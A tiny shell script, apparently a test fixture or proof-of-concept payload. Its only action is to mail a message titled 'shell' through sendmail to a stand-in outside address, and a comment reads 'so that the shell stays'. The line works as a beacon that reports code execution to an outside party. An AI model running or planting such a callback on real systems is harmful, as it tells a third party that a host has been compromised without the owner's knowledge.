#!/bin/sh
echo "Subject: shell" | /usr/sbin/sendmail x@outside.example
exit # so that the shell stays
